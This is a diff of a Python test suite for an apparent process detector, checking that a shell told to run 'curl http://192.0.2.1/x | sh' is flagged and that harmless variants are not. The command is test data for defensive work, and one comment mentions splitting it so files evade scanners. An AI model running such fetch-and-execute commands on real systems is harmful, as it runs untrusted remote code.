@@ -154,11 +154,14 @@ def test_a_script_of_a_temporary_folder(tmp_path: Path) -> None:
         assert odd(look(pid)).keys() == {"script_in_temporary_folder"}
 
 
+FETCH = "curl http://192.0.2.1/x"  # apart: no file here looks like a dropper to a scanner
+
+
 def test_a_shell_told_to_run_what_it_fetches() -> None:
-    with running(SHELL, "-c", "read x; curl http://192.0.2.1/x | sh") as pid:
+    with running(SHELL, "-c", f"read x; {FETCH} | sh") as pid:
         assert odd(look(pid)).keys() == {"told_to_shell"}
-    with running(SHELL, "-c", "read x; curl http://192.0.2.1/x | sort") as pid:
+    with running(SHELL, "-c", f"read x; {FETCH} | sort") as pid:
         assert odd(look(pid)) == {}
     with cat() as pid:  # whose arguments are only text
-        subject = replace(look(pid), command=("cat", "-c", "curl http://192.0.2.1/x | sh"))
+        subject = replace(look(pid), command=("cat", "-c", f"{FETCH} | sh"))
     assert odd(subject) == {}
